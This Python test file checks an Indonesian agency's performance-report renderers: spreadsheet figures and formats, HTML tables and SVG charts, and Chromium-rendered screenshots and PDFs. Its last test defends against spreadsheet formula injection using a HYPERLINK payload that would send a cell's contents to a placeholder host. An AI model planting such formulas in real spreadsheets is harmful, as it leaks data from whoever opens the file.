"""The renderers: XLSX with real numbers, HTML with tables and SVG charts, rendered by headless
Chromium to a non-blank screenshot and to a PDF with the expected pages."""

from __future__ import annotations

import re
import struct
import zlib
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from dinsos_api.laporan import render_html, render_pdf, render_xlsx
from dinsos_api.laporan.schemas import LaporanLkip

D = Decimal


@pytest.fixture(scope="module")
def html(laporan_2024: LaporanLkip) -> str:
    return render_html.render(laporan_2024)


def test_xlsx_holds_the_same_numbers(laporan_2024: LaporanLkip) -> None:
    wb = load_workbook(BytesIO(render_xlsx.render(laporan_2024)))
    assert wb.sheetnames[:5] == [
        "Tabel 3.4",
        "Tabel 3.5",
        "Tabel 3.6",
        "Tabel 3.7 Tahun Lalu",
        "Tabel 3.7 Lima Tahun",
    ]
    assert {f"Tabel 3.{i}" for i in range(8, 16)} <= set(wb.sheetnames)
    assert {"Ringkasan 3.8", "Realisasi Bulanan", "Temuan Lain"} <= set(wb.sheetnames)

    iku = wb["Tabel 3.4"]
    baris = {r[1].value: r for r in iku.iter_rows(min_row=4) if r[1].value in ("IKU1", "IKU2")}
    capaian = baris["IKU1"][7]
    assert isinstance(capaian.value, float) and D(str(capaian.value)) == D("111.11")
    assert capaian.number_format == "#,##0.00"
    assert baris["IKU2"][7].value == pytest.approx(98.14)
    assert baris["IKU2"][8].value == "Sangat Baik"
    assert baris["IKU2"][8].fill.fgColor.rgb == "FF1A7F37"  # Hijau Tua

    ringkasan = wb["Ringkasan 3.8"]
    total = next(r for r in ringkasan.iter_rows() if r[2].value == "TOTAL BELANJA")
    assert total[3].value == laporan_2024.ringkasan_anggaran.pagu_total == 69778259677
    assert total[4].value == 54237655066 and total[3].number_format == "#,##0"
    assert D(str(total[5].value)) == D("77.73")

    efisiensi = wb["Tabel 3.8"]
    # Rows 4–8 are the five programs (header on row 3); the findings come after the total.
    nilai = {r[1].value: r[4].value for r in efisiensi.iter_rows(min_row=4, max_row=8)}
    assert nilai["Program Pemberdayaan Sosial"] == pytest.approx(6.96)
    assert nilai["Program Penanganan Bencana"] == pytest.approx(19.62)
    # Every table's findings follow it: Tabel 3.8 lists the sign error.
    teks = [c.value for r in efisiensi.iter_rows() for c in r if isinstance(c.value, str)]
    assert any("tandanya negatif" in t for t in teks)


def test_html_has_tables_charts_and_findings(html: str, laporan_2024: LaporanLkip) -> None:
    assert html.startswith("<!DOCTYPE html>") and '<html lang="id">' in html
    assert "<script" not in html  # self-contained, static
    for nomor in ["Tabel 3.4", "Tabel 3.5", "Tabel 3.6", "Tabel 3.7", "Tabel 3.8", "Tabel 3.15"]:
        assert f"<h2>{nomor} " in html
    # Three SVG charts: capaian per indicator, penyerapan per program, the S-curve.
    assert html.count("<svg") == 3
    assert "Capaian kinerja per indikator" in html and "Kurva S" in html
    # Indonesian number formatting and the kriteria colour on the rating cell.
    assert "111,11" in html and "69.778.259.677" in html
    assert "background:#1a7f37" in html
    assert html.count("<li>") == laporan_2024.jumlah_temuan == 43


def _piksel_png(data: bytes) -> tuple[int, int, int, bytes]:
    """(width, height, bytes per pixel, unfiltered pixels) of an 8-bit RGB/RGBA PNG."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat = 8, b""
    lebar = tinggi = bpp = 0
    while pos < len(data):
        (panjang,) = struct.unpack(">I", data[pos : pos + 4])
        jenis, isi = data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + panjang]
        if jenis == b"IHDR":
            lebar, tinggi, kedalaman, warna = struct.unpack(">IIBB", isi[:10])
            assert kedalaman == 8 and warna in (2, 6)
            bpp = 3 if warna == 2 else 4
        elif jenis == b"IDAT":
            idat += isi
        pos += 12 + panjang
    mentah = zlib.decompress(idat)
    stride = lebar * bpp
    keluar = bytearray()
    sebelum = bytearray(stride)
    for y in range(tinggi):
        f = mentah[y * (stride + 1)]
        baris = bytearray(mentah[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
        for i in range(stride):
            a = baris[i - bpp] if i >= bpp else 0
            b = sebelum[i]
            c = sebelum[i - bpp] if i >= bpp else 0
            if f == 1:
                baris[i] = (baris[i] + a) & 0xFF
            elif f == 2:
                baris[i] = (baris[i] + b) & 0xFF
            elif f == 3:
                baris[i] = (baris[i] + (a + b) // 2) & 0xFF
            elif f == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                pred = a if pa <= pb and pa <= pc else (b if pb <= pc else c)
                baris[i] = (baris[i] + pred) & 0xFF
        keluar += baris
        sebelum = baris
    return lebar, tinggi, bpp, bytes(keluar)


needs_chromium = pytest.mark.skipif(
    render_pdf.cari_chromium() is None, reason="Chromium tidak terpasang (make install)"
)


@needs_chromium
def test_html_renders_in_headless_chromium(html: str) -> None:
    lebar, tinggi, bpp, piksel = _piksel_png(render_pdf.png(html, 1000, 1400))
    assert (lebar, tinggi) == (1000, 1400)
    warna = {piksel[i : i + 3] for i in range(0, len(piksel), bpp * 7)}
    bukan_putih = sum(1 for i in range(0, len(piksel), bpp) if piksel[i : i + 3] != b"\xff\xff\xff")
    # Text, table borders and coloured kriteria cells: many colours, a fair share not white.
    assert len(warna) > 50
    assert bukan_putih > lebar * tinggi // 20
    # The Hijau Tua kriteria fill (#1a7f37) is on the first screen.
    assert any(
        abs(p[0] - 0x1A) < 6 and abs(p[1] - 0x7F) < 6 and abs(p[2] - 0x37) < 6 for p in warna
    )


@needs_chromium
def test_pdf_has_the_expected_pages(html: str) -> None:
    pdf = render_pdf.pdf(html)
    assert pdf.startswith(b"%PDF-")
    halaman = len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf))
    # Seven <section>s each start a new A4 page; the long ones (the budget tables, Tabel 3.12
    # with 48 sub kegiatan) run over several pages. Measured once: 12 pages.
    assert halaman == 12


def test_missing_chromium_is_reported(monkeypatch: pytest.MonkeyPatch, html: str) -> None:
    monkeypatch.setenv("DINSOS_CHROMIUM", "/tidak/ada/chromium")
    assert render_pdf.cari_chromium() is None
    with pytest.raises(render_pdf.ChromiumTidakTersediaError):
        render_pdf.pdf(html)


RUMUS = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


def test_xlsx_writes_names_as_text_never_as_formulas(laporan_2024: LaporanLkip) -> None:
    # Names come from what operators type into plans and budgets.
    racun = laporan_2024.model_copy(deep=True)
    sasaran = racun.tabel_iku.sasaran[0]
    sasaran.nama = sasaran.indikator[0].nama = RUMUS
    racun.anggaran[0].baris[0].nama = racun.ringkasan_anggaran.baris[0].nama = RUMUS
    racun.tabel_iku.catatan.append(RUMUS)
    wb = load_workbook(BytesIO(render_xlsx.render(racun)))
    sel = [c for ws in wb for baris in ws.iter_rows() for c in baris]
    teks = [c for c in sel if isinstance(c.value, str) and RUMUS in c.value]
    assert len(teks) >= 5 and {c.data_type for c in teks} == {"s"}
    assert [c.coordinate for c in sel if c.data_type == "f"] == []
